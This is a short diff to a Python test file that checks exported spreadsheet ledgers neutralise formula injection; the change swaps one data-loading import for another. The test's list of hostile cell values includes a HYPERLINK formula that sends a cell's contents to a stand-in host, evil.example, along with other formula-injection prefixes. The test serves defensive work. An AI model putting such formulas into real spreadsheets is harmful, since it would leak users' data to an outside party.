@@ -82,10 +82,10 @@ def test_display_width_counts_cjk_double():
 def test_formula_injection_is_inert(tmp_path, processed):
     from openpyxl import load_workbook
 
-    from govstats.ingest import load_processed
     from govstats.report.ledger import ledger_frames, write_ledger
+    from govstats.store import read_tables
 
-    t = load_processed(processed)
+    t = read_tables(processed)
     evil = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "+1+2", "-3", "@SUM(A1:A9)"]
     nm = t["new_media"].copy()
     seed_rows = nm.index[nm["bulletin_id"] == "xianyang-2025q1"][: len(evil)]
